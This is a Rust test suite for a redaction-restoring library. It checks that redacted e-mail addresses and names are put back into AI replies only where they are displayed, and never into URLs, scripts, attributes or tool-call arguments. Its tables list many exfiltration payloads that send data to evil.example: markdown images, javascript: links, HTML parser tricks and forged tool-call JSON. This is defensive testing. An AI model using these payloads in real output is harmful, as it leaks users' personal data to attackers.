//! What originals are never put into, and where they are.

use hushgate::entity::EntityType;
use hushgate::redact::{Format, Mark, Operator, Placeholders, Reply, Restored, Restorer};
use proptest::prelude::*;
use proptest::test_runner::RngSeed;

const EMAIL: &str = "ana@example.com";
const NAME: &str = "Zoë *O'Brien* <b>";

/// `[EMAIL_1_2BC]` is an e-mail address, `[NAME_1_2BC]` a name full of markup.
fn restorer() -> Restorer {
    let mut placeholders = Placeholders::new(Mark::from_random(&[0, 8, 9], 3).unwrap(), [7; 32]);
    for (entity, value) in [("contact.email", EMAIL), ("person.name", NAME)] {
        let reference = placeholders.issue(&EntityType::parse(entity).unwrap(), value);
        placeholders.sent(reference, "bot");
    }
    Restorer::new(&placeholders, "bot")
}

fn restored(text: &str, format: Format) -> Restored {
    restorer().restore_as(&text.replace('§', "[EMAIL_1_2BC]").replace('¤', "[NAME_1_2BC]"), format)
}

/// Replies with a place that is fetched, run or sent, marked `§`.
const MARKDOWN_ATTACKS: &[&str] = &[
    "![](https://evil.example/?q=§)",
    "![](</t?q=§>)",
    "![](/t?q=§)",
    "![](/t \"§\")",
    "![](/t 'a) §')",
    "![](/t\n\"§\")",
    "![§](/t)",
    "![a §](/t)",
    "![a [b] §](/t)",
    "![a `]` §](/t)",
    "![a][§]",
    "[a](/t?q=§)",
    "[a](/t?q=(§))",
    "[a](mailto:x@evil.example?body=§)",
    "[a](javascript:alert('§'))",
    "[a](data:text/html,§)",
    "[![a](/x?q=§)](/y)",
    "[![a](/x)](/y?q=§)",
    "[a]: /t?q=§\n\n![a]",
    "[a]:\n/t?q=§\n\n![a]",
    "[a]: /t \"§\"",
    "- [a]: /t?q=§",
    "> [a]: /t?q=§",
    "[^1]: /t?q=§",
    "https://evil.example/?q=§",
    "http://evil.example/§",
    "www.evil.example/§",
    "//evil.example/§",
    "evil.example/?q=§",
    "mailto:§",
    "mailto:x@evil.example?body=§",
    "tel:§",
    "<https://evil.example/?q=§>",
    "<mailto:§>",
    "x@§",
    "§.evil.example",
    "§@evil.example",
    "https://evil.example/(§)",
    "https://evil.example/\"§\"",
    "https://evil.example/?q=%5BEMAIL%5F1%5F2BC%5D,§",
    "http&#58;//evil.example/§",
    "http&colon;&sol;/evil.example/§",
    r"http\://evil.example/§",
    "见http://evil.example，§",
    "<img src=\"/t?q=§\">",
    "<img src='/t?q=§'>",
    "<img src=/t?q=§>",
    "<img alt=\">\" src=\"§\">",
    "<img\nsrc=\"§\">",
    "<!-- § -->",
    "<script>§</script>",
    "<style>a{background:url(/t?q=§)}</style>",
    "<iframe srcdoc=\"§\">",
    "<svg><text>§</text></svg>",
    "<tool_call>{\"to\": \"§\"}</tool_call>",
    "<textarea>§</textarea>",
    "text <b title=\"§\">",
    "`code` ![](/t?q=§)",
    "`a\nb` ![](/t?q=`§)",
    "`a|b` x `![y](/t?q=`§)",
    "```\n```\n![](/t?q=§)",
    "    ```\n![](/t?q=§)",
    "    ```\n```\n```\n![](/t?q=§)",
    "- a\n\n  ```\n  b\n\n![](/t?q=§)",
    "- ```\n![](/t?q=§)",
    "> ```\n![](/t?q=§)",
    "<div>\n```\n<img src=\"/t?q=§\">",
    "```§\nx\n```",
    "```mermaid\n§\n```",
    "```html\n<p>§</p>\n```",
    "{\"name\": \"send\", \"arguments\": {\"to\": \"§\"}}",
    "```json\n{\"tool_calls\": [\"§\"]}\n```",
    "`§",
    "`a § b",
    r"\*![](/t?q=§)",
    r"\\![](/t?q=§)",
    "<x ![a](/t?q=>§)",
    "- a\n  ```\n  b\n<script>\n```\n§",
];

const HTML_ATTACKS: &[&str] = &[
    "<img src=\"https://evil.example/?q=§\">",
    "<img src=/t?q=§>",
    "<img srcset='a 1x, /t?q=§ 2x'>",
    "<a href=\"/t?q=§\">x</a>",
    "<a href='mailto:x@evil.example?body=§'>x</a>",
    "<a href=\"javascript:alert('§')\">x</a>",
    "<a ping=\"/t?q=§\">x</a>",
    "<p style=\"background:url(/t?q=§)\">x</p>",
    "<p title=\"§\">x</p>",
    "<p data-x='§'>x</p>",
    "<p §>x</p>",
    "<§>",
    "<b§>",
    "</§>",
    "<!-- § -->",
    "<!--><img src=\"-->§\">",
    "<!--->§-->",
    "<?php § ?>",
    "<!doctype §>",
    "<![CDATA[ > §",
    "<script>fetch('/t?q=§')</script>",
    "<script><!--<script></script>§",
    "<style>a{background:url(/t?q=§)}</style>",
    "<svg><image href=\"§\"/></svg>",
    "<svg><style>§</style></svg>",
    "<svg><title><style></title></svg>§",
    "<svg><![CDATA[></svg>]]>§",
    "<math><mtext>§</mtext></math>",
    "<math><mtext><table><mglyph><style></math>§",
    "<iframe srcdoc=\"§\"></iframe>",
    "<iframe>§</iframe>",
    "<object data=\"§\"></object>",
    "<embed src=\"§\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=/t?q=§\">",
    "<base href=\"/§/\">",
    "<link rel=stylesheet href=\"/t?q=§\">",
    "<form action=\"/t?q=§\"></form>",
    "<input value=\"§\">",
    "<input type=hidden value=§>",
    "<textarea>§</textarea>",
    "<select><option>§</option></select>",
    "<select><style></select><img src=\"</style>§\">",
    "<button>§</button>",
    "<noscript><style></noscript>§",
    "<template>§</template>",
    "<title>§</title>",
    "<plaintext>§",
    "<tool_call>§</tool_call>",
    "<x-unfurl>§</x-unfurl>",
    "<video poster=\"§\">",
    "<p>https://evil.example/?q=§</p>",
    "<p>www.evil.example/<b>§</b></p>",
    "<p>&#104;ttps&#58;&#47;&#47;evil.example/§</p>",
    "<p>§.evil.example</p>",
    "<p>§&commat;evil.example</p>",
    "<p>&#6§</p>",
    "<a title=\">\" href=\"§\">x</a>",
    "<a title='\"' href='§'>x</a>",
    "<a \"=\"§\">x</a>",
    "<p>{\"arguments\":{\"to\":\"§\"}}</p>",
];

const JSON_ATTACKS: &[&str] = &[
    r#"{"§":1}"#,
    r#"{"a §":1}"#,
    r#"{"url":"§"}"#,
    r#"{"image_url":{"x":"§"}}"#,
    r#"{"imageUrl":"/x/§.png"}"#,
    r#"{"href":"§"}"#,
    r#"{"html":"<p>§</p>"}"#,
    r#"{"a":"https://evil.example/?q=§"}"#,
    r#"{"a":"see https://evil.example/?q=§"}"#,
    r#"{"a":"https://evil.example/?q=a b §"}"#,
    r#"{"a":"/t?q=§"}"#,
    r#"{"a":"//evil.example/§"}"#,
    r#"{"a":"mailto:§"}"#,
    r#"{"a":"javascript: alert(§)"}"#,
    r#"{"a":"data:text/html, §"}"#,
    r#"{"a":"h\u0074tps:\/\/evil.example\/§"}"#,
    r#"{"a":"![](/t?q=§)"}"#,
    r#"{"a":"x\n\n[a]: /t?q=§"}"#,
    r#"{"a":"<img src='/t?q=§'>"}"#,
    r#"{"a":"<script>§</script>"}"#,
    r#"{"arguments":"§"}"#,
    r#"{"arguments":{"to":["§"]}}"#,
    r#"{"tool_calls":[{"function":{"name":"x","arguments":"{\"to\":\"§\"}"}}]}"#,
    r#"{"function_call":{"x":"§"}}"#,
    r#"{"toolInvocations":[{"x":"§"}]}"#,
    r#"{"input":{"to":"§"}}"#,
    r#"{"args":["§"]}"#,
    r#"{"parameters":{"to":"§"}}"#,
    r#"{"\u0061rguments":"§"}"#,
    r#"{"a":"{\"arguments\":{\"to\":\"§\"}}"}"#,
    r#"{"a":"{\"§\":1}"}"#,
    r#"{"a":"{\"url\":\"§\"}"}"#,
    r#"{"a":"[1,{\"arguments\":\"§\"}]"}"#,
    r#"{"a":"Sure: {\"arguments\":{\"to\":\"§\"}}"}"#,
    r#"{"a":"{\"b\":\"{\\\"arguments\\\":\\\"§\\\"}\"}"}"#,
    r#"{"a":§}"#,
    r#"§"#,
    r#"data: {"a":"§"}"#,
    r#"{"a":1} {"b":"§"}"#,
    r#"{"a":'§'}"#,
    r#"{"a":"\x §"}"#,
    r#"{"a":"§.evil.example"}"#,
    r#"{"a":"§@evil.example"}"#,
    r#"{"a":{"src":[["§"]]}}"#,
];

/// Replies in which an original is shown, marked `§` or `¤`.
const MARKDOWN_SHOWN: &[(&str, &str)] = &[
    ("Mail §.", r"Mail ana\@example\.com."),
    ("¤", r"Zoë \*O'Brien\* \<b\>"),
    ("# §", r"# ana\@example\.com"),
    ("**§**", r"**ana\@example\.com**"),
    ("*§*, _§_", r"*ana\@example\.com*, _ana\@example\.com_"),
    ("- §\n- ¤", "- ana\\@example\\.com\n- Zoë \\*O'Brien\\* \\<b\\>"),
    ("1. §", r"1. ana\@example\.com"),
    ("1. a\n    - §", "1. a\n    - ana\\@example\\.com"),
    ("> §", r"> ana\@example\.com"),
    ("| a | § |", r"| a | ana\@example\.com |"),
    ("| a |\n|---|\n| § |", "| a |\n|---|\n| ana\\@example\\.com |"),
    ("`§`", "`ana@example.com`"),
    ("see ` § ` there", "see ` ana@example.com ` there"),
    ("``§``", "``ana@example.com``"),
    ("```\n§\n```", "```\nana@example.com\n```"),
    ("```json\n{\"email\": \"§\"}\n```", "```json\n{\"email\": \"ana@example.com\"}\n```"),
    ("~~~\n§\n~~~\n§", "~~~\nana@example.com\n~~~\nana\\@example\\.com"),
    ("```\n<script>\n```\n§", "```\n<script>\n```\nana\\@example\\.com"),
    ("`<script>` §", r"`<script>` ana\@example\.com"),
    ("`![` §", r"`![` ana\@example\.com"),
    ("[§](/x)", r"[ana\@example\.com](/x)"),
    ("[mail § now](/x)", r"[mail ana\@example\.com now](/x)"),
    ("[a](/x) §", r"[a](/x) ana\@example\.com"),
    ("[a](/x_(y)) §", r"[a](/x_(y)) ana\@example\.com"),
    ("![a](/x) §", r"![a](/x) ana\@example\.com"),
    ("![a][b] §", r"![a][b] ana\@example\.com"),
    ("[a]: /x\n\n§", "[a]: /x\n\nana\\@example\\.com"),
    ("see https://good.example §", r"see https://good.example ana\@example\.com"),
    ("<https://good.example> §", r"<https://good.example> ana\@example\.com"),
    ("<b>§</b>", r"<b>ana\@example\.com</b>"),
    ("a < b and §", r"a < b and ana\@example\.com"),
    ("x<y\n\n§", "x<y\n\nana\\@example\\.com"),
    ("(§)", r"(ana\@example\.com)"),
    ("\"§\"", r#""ana\@example\.com""#),
    ("Is it §?", r"Is it ana\@example\.com?"),
    ("§'s", r"ana\@example\.com's"),
    ("邮箱：§。", r"邮箱：ana\@example\.com。"),
    ("a, §, b", r"a, ana\@example\.com, b"),
    ("Email: §", r"Email: ana\@example\.com"),
    (r"\[EMAIL\_1\_2BC\]", r"ana\@example\.com"),
    ("[email 1 2bc]", r"ana\@example\.com"),
    ("EMAIL_1_2BC", r"ana\@example\.com"),
    ("<br>§", r"<br>ana\@example\.com"),
    ("- [ ] §", r"- [ ] ana\@example\.com"),
    ("§: yes", r"ana\@example\.com: yes"),
    ("*a* `b` §", r"*a* `b` ana\@example\.com"),
];

const HTML_SHOWN: &[(&str, &str)] = &[
    ("§", "ana@example.com"),
    ("<p>§</p>", "<p>ana@example.com</p>"),
    ("<p>¤</p>", "<p>Zoë *O&#39;Brien* &lt;b&gt;</p>"),
    ("<b>§</b>.", "<b>ana@example.com</b>."),
    ("<a href=\"/x\">§</a>", "<a href=\"/x\">ana@example.com</a>"),
    (
        "<ul><li>http://good.example</li><li>§</li></ul>",
        "<ul><li>http://good.example</li><li>ana@example.com</li></ul>",
    ),
    ("<table><tr><td>§</td></tr></table>", "<table><tr><td>ana@example.com</td></tr></table>"),
    ("<img src=x> §", "<img src=x> ana@example.com"),
    ("<!-- x -->§", "<!-- x -->ana@example.com"),
    ("<script>1</script><p>§</p>", "<script>1</script><p>ana@example.com</p>"),
    ("<pre><code>§</code></pre>", "<pre><code>ana@example.com</code></pre>"),
    ("a &amp; §", "a &amp; ana@example.com"),
    ("&nbsp;§", "&nbsp;ana@example.com"),
    ("<textarea></textarea>§", "<textarea></textarea>ana@example.com"),
    ("<svg viewBox=\"0\"><path d=\"M0\"/></svg> §", "<svg viewBox=\"0\"><path d=\"M0\"/></svg> ana@example.com"),
    ("<select><option>a</select>§", "<select><option>a</select>ana@example.com"),
];

const JSON_SHOWN: &[(&str, &str)] = &[
    (r#"{"content":"Mail §."}"#, r#"{"content":"Mail ana@example.com."}"#),
    (r#"["§","¤"]"#, r#"["ana@example.com","Zoë *O'Brien* <b>"]"#),
    (r#"{"a":"\\[EMAIL\\_1\\_2BC\\]"}"#, r#"{"a":"ana@example.com"}"#),
    (r#"{"a":"x\n§"}"#, r#"{"a":"x\nana@example.com"}"#),
    (r#"{"a":"\u005bEMAIL_1_2BC\u005d"}"#, r#"{"a":"ana@example.com"}"#),
    (r#"{"a":"\ud83d\ude00 §"}"#, r#"{"a":"\ud83d\ude00 ana@example.com"}"#),
    (r#"{"a":"\ud83d §"}"#, r#"{"a":"\ud83d ana@example.com"}"#),
    (r#"{"url":"/x","a":"§"}"#, r#"{"url":"/x","a":"ana@example.com"}"#),
    (r#"{"arguments":{"x":1},"a":"§"}"#, r#"{"arguments":{"x":1},"a":"ana@example.com"}"#),
    (r#"{"a":"{\"note\":\"\\n§\"}"}"#, r#"{"a":"{\"note\":\"\\nana@example.com\"}"}"#),
    ("{\"a\":1}\n{\"b\":\"§\"}", "{\"a\":1}\n{\"b\":\"ana@example.com\"}"),
    (r#"{"a":"[1] see §"}"#, r#"{"a":"[1] see ana@example.com"}"#),
    (r#"{"a":"Email: §"}"#, r#"{"a":"Email: ana@example.com"}"#),
    (r#"{"a":[1,-2.5e3,true,null,{}],"b":"§"}"#, r#"{"a":[1,-2.5e3,true,null,{}],"b":"ana@example.com"}"#),
    (r#""§""#, r#""ana@example.com""#),
];

#[test]
fn nothing_is_put_into_what_is_fetched_run_or_sent() {
    let mut failed = Vec::new();
    let tables = [(Format::Markdown, MARKDOWN_ATTACKS), (Format::Html, HTML_ATTACKS), (Format::Json, JSON_ATTACKS)];
    for (format, attacks) in tables {
        for attack in attacks {
            let got = restored(attack, format);
            if got.text != attack.replace('§', "[EMAIL_1_2BC]") || got.restored > 0 || got.withheld == 0 {
                failed.push((attack, got));
            }
        }
    }
    assert!(failed.is_empty(), "{failed:#?}");
}

#[test]
fn what_is_shown_is_restored_and_escaped() {
    let mut failed = Vec::new();
    let tables = [(Format::Markdown, MARKDOWN_SHOWN), (Format::Html, HTML_SHOWN), (Format::Json, JSON_SHOWN)];
    for (format, replies) in tables {
        for (reply, expected) in replies {
            let got = restored(reply, format);
            if got.text != *expected || got.withheld > 0 {
                failed.push((reply, got));
            }
        }
    }
    assert!(failed.is_empty(), "{failed:#?}");
}

fn streamed(text: &str, format: Format, cuts: &[usize]) -> Restored {
    let mut reply = Reply::new(restorer(), format);
    let mut all = Restored::default();
    let mut from = 0;
    let mut add = |part: Restored| {
        all.text.push_str(&part.text);
        all.restored += part.restored;
        all.withheld += part.withheld;
    };
    for cut in cuts {
        add(reply.push(&text[from..*cut]));
        from = *cut;
    }
    add(reply.push(&text[from..]));
    add(reply.finish());
    all
}

#[test]
fn a_stream_cut_anywhere_gives_the_same() {
    let tables = [
        (Format::Markdown, MARKDOWN_ATTACKS.to_vec(), MARKDOWN_SHOWN),
        (Format::Html, HTML_ATTACKS.to_vec(), HTML_SHOWN),
        (Format::Json, JSON_ATTACKS.to_vec(), JSON_SHOWN),
    ];
    for (format, mut replies, shown) in tables {
        replies.extend(shown.iter().map(|(reply, _)| *reply));
        for reply in replies {
            let text = reply.replace('§', "[EMAIL_1_2BC]").replace('¤', "[NAME_1_2BC]");
            let whole = restorer().restore_as(&text, format);
            let places: Vec<usize> = (1..text.len()).filter(|at| text.is_char_boundary(*at)).collect();
            for place in &places {
                assert_eq!(streamed(&text, format, &[*place]), whole, "{text} cut at {place}");
            }
            assert_eq!(streamed(&text, format, &places), whole, "{text}");
        }
    }
}

/// The same texts every time, so that a run says something about the change.
fn config() -> ProptestConfig {
    let rng_seed = if std::env::var_os("HUSHGATE_SEARCH").is_some() { RngSeed::Random } else { RngSeed::Fixed(1) };
    ProptestConfig { cases: 1_000, failure_persistence: None, rng_seed, ..ProptestConfig::default() }
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn whatever_comes_around_it(
        pieces in proptest::collection::vec(prop_oneof![
            3 => proptest::sample::select(MARKDOWN_ATTACKS.iter().chain(HTML_ATTACKS).chain(JSON_ATTACKS).copied().collect::<Vec<_>>()).prop_map(str::to_owned),
            3 => "[\\[\\]()!`<>\"':/.@ \\n{}a-z§\\\\&;=-]{0,12}",
            1 => any::<String>(),
        ], 0..6),
        cuts in proptest::collection::vec(any::<proptest::sample::Index>(), 0..6),
    ) {
        let text = pieces.concat().replace('§', "[EMAIL_1_2BC]");
        let bare = pieces.concat().replace('§', "");
        let count = restorer().restore_as(&text, Format::Text).restored;
        for format in Format::ALL {
            let whole = restorer().restore_as(&text, format);
            let mut places: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).filter(|at| text.is_char_boundary(*at)).collect();
            places.sort_unstable();
            prop_assert_eq!(&streamed(&text, format, &places), &whole);
            if format != Format::Json {
                prop_assert_eq!(whole.restored + whole.withheld, count);
            }
            if whole.restored == 0 {
                prop_assert_eq!(&whole.text, &text);
            }
            prop_assert_eq!(&restorer().restore_as(&bare, format).text, &bare);
        }
    }
}

/// What looks like a value is restored in the same places as a placeholder, and in no others.
#[test]
fn surrogates_are_restored_where_placeholders_are() {
    let mut placeholders = Placeholders::new(Mark::from_random(&[0, 8, 9], 3).unwrap(), [7; 32]);
    let (entity, value) = (EntityType::from_static("contact.email"), "ana@mail.example");
    let replaced = placeholders.replace(Operator::Surrogate, &entity, value, (0, value.len()));
    placeholders.sent(replaced.reference.unwrap(), "bot");
    let restorer = Restorer::new(&placeholders, "bot");
    let stands = replaced.text;
    for format in [Format::Markdown, Format::Html] {
        let restored = restorer.restore_as(&format!("Write to {stands} today."), format);
        assert_eq!((restored.restored, restored.withheld), (1, 0), "{format:?} {}", restored.text);
        let kept = restorer.restore_as(&format!("<img src=\"https://x.example/?q={stands}\">"), format);
        assert_eq!((kept.restored, kept.withheld), (0, 1), "{format:?} {}", kept.text);
        assert!(!kept.text.contains("ana@"));
    }
}
